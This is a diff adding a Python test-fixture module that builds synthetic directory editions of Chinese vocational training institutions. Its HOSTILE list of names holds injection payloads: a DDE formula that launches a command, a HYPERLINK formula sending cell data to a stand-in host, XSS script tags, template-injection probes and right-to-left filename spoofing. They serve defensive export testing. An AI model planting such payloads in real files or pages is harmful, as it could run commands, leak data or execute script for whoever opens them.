@@ -1,0 +1,179 @@
+"""Made editions for the tests of the directory and its files: small, hostile and large ones."""
+
+from collections.abc import Iterable
+from datetime import date
+
+import numpy as np
+import pandas as pd
+
+from schemas.cycle import cycle_id
+from schemas.directory import CHANGE_COLUMNS, DIRECTORY_COLUMNS, changes
+from schemas.policy import for_cycle
+from schemas.reference_data import reference
+from tasks.gateways.shelf import EarlierEdition, EditionContent
+
+AS_OF = date(2026, 9, 10)
+POLICY = for_cycle(cycle_id("2026-09"))
+
+#: Names that spreadsheets, browsers, templates or terminals might take for something else than text.
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
+    "+1+1",
+    "-2-3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "＝1＋1",
+    "  =1+1",
+    "\r\n=1+1",
+    "<script>window.hacked = 1</script>",
+    '</script><img src=x onerror="window.hacked=1">',
+    "<!--<script>",
+    "{{ 7 * 7 }}{% raw %}",
+    "{_{ 7 * 7 }_}",
+    "abc\u202egnp.exe\u202c",
+    "\u200f\u2067שלום\u2069",
+    "👩‍🔧🇨🇳培训学校",
+    "长" * 300,
+    "引号\"'“”‘’`,;\\",
+    "第一行\n第二行\r第三行",
+    "\x00\x07\x1b[31m红",
+    "\ufeff\ufffe\u2028\u2029末",
+    "&lt;b&gt;&amp;&#x41;",
+    "https://example.invalid/",
+    "' 撇号",
+    "NULL",
+    "12345678901234567890",
+    "2026-09-10",
+]
+
+
+def directory(rows: Iterable[tuple[str, ...]]) -> pd.DataFrame:
+    """A directory of the given rows, cells in the order of DIRECTORY_COLUMNS; blank ones are missing."""
+    frame = pd.DataFrame(list(rows), columns=DIRECTORY_COLUMNS, dtype="str")
+    return frame.mask(frame == "")
+
+
+def row(
+    name: str = "黄石市磁湖职业培训学校",
+    uscc: str = "91420200MA48000001",
+    occupation: str = "6-18-01-01",
+    **cells: str,
+) -> tuple[str, ...]:
+    """One row of the directory; everything not said is ordinary."""
+    ordinary = {
+        "institution_name": name,
+        "institution_type": "social_organisation",
+        "uscc": uscc,
+        "institution_code": "",
+        "region_code": "420202",
+        "occupation_code": occupation,
+        "occupation_name": reference().occupation_names().get(occupation, "车工"),
+        "levels": "5,4,3",
+        "filed_on": "2026-09-10",
+        "valid_until": "2029-09-09",
+    }
+    return tuple({**ordinary, **cells}[column] for column in DIRECTORY_COLUMNS)
+
+
+def ordinary() -> pd.DataFrame:
+    """Four institutions of the three types, seven rows, out of order."""
+    return directory(
+        [
+            row(
+                "大冶有色机械制造有限公司",
+                "91420281MA48000003",
+                "6-20-01-01",
+                institution_type="enterprise",
+                region_code="420281",
+            ),
+            row(
+                "黄石技师学院", "12420200MA48000002", "6-18-01-02", institution_type="technical_school", levels="4,3,2"
+            ),
+            row(
+                "黄石技师学院",
+                "12420200MA48000002",
+                "6-18-01-01",
+                institution_type="technical_school",
+                levels="5,4,3,2,1",
+            ),
+            row("黄石技师学院", "12420200MA48000002", "4-04-05-01", institution_type="technical_school", levels="5"),
+            row(institution_code="Y00042000001", filed_on="2024-09-10", valid_until="2027-09-09"),
+            row(
+                occupation="4-10-01-02",
+                institution_code="Y00042000001",
+                filed_on="2024-09-10",
+                valid_until="2027-09-09",
+            ),
+            row(
+                "阳新县新港物流职业培训学校",
+                "52420222MA48000004",
+                "4-02-06-01",
+                region_code="HS-XG",
+                valid_until="2026-10-31",
+                filed_on="2023-11-01",
+            ),
+        ]
+    )
+
+
+def hostile() -> pd.DataFrame:
+    """One institution for each hostile name; the name is also that of its occupation."""
+    return directory(
+        row(name, f"91420200MA48{place:06d}", occupation_name=name, region_code="<b>", institution_code="=1+1")
+        for place, name in enumerate(HOSTILE)
+    )
+
+
+def edition(
+    rows: pd.DataFrame,
+    *,
+    before: pd.DataFrame | None = None,
+    name: str = "2026-09.1",
+    previous: str | None = None,
+    earlier: Iterable[EarlierEdition] = (),
+) -> EditionContent:
+    """An edition of these rows; its changes are against `before`, by default an empty directory."""
+    changed = changes(rows.iloc[:0] if before is None else before, rows, AS_OF)
+    return EditionContent(
+        name=name,
+        cycle="2026-09",
+        as_of=AS_OF,
+        policy=POLICY,
+        rows=rows,
+        changes=changed[CHANGE_COLUMNS],
+        previous_manifest_sha256=previous,
+        earlier=list(earlier),
+    )
+
+
+def large(count: int, seed: int = 1) -> pd.DataFrame:
+    """A directory of about `count` rows with four occupations an institution, real occupations and regions."""
+    draw = np.random.default_rng(seed)
+    codes = [code for code in reference().occupations["code"] if code[0] in "3456"]
+    many = max(1, count // 4)
+    institution = np.repeat(np.arange(many), 4)
+    occupation = draw.integers(0, len(codes), institution.size)
+    places, trades = (
+        ["华新", "新冶", "东贝", "磁湖", "团城山", "铜都"],
+        ["机械制造有限公司", "技工学校", "职业培训学校"],
+    )
+    names = np.array([f"黄石市{places[draw.integers(6)]}{place}号{trades[draw.integers(3)]}" for place in range(many)])
+    filed = pd.Timestamp("2023-09-11") + pd.to_timedelta(draw.integers(0, 1095, many), unit="D")
+    until = filed + pd.DateOffset(years=3) - pd.DateOffset(days=1)
+    titles = reference().occupation_names()
+    frame = pd.DataFrame(
+        {
+            "institution_name": names[institution],
+            "institution_type": np.array(list(POLICY.institution))[draw.integers(0, 3, many)][institution],
+            "uscc": np.array([f"91420200{place:010d}" for place in range(many)])[institution],
+            "institution_code": np.array([f"Y0004{place:08d}" for place in range(many)])[institution],
+            "region_code": np.array(POLICY.regions.codes)[draw.integers(0, 8, many)][institution],
+            "occupation_code": np.array(codes)[occupation],
+            "occupation_name": np.array([titles[code] for code in codes])[occupation],
+            "levels": np.array(["5,4,3", "5,4", "5,4,3,2,1", "3,2,1", "5"])[draw.integers(0, 5, institution.size)],
+            "filed_on": np.asarray(filed.strftime("%Y-%m-%d"))[institution],
+            "valid_until": np.asarray(until.strftime("%Y-%m-%d"))[institution],
+        }
+    )
+    return frame.astype("str").drop_duplicates(["uscc", "occupation_code"], ignore_index=True)
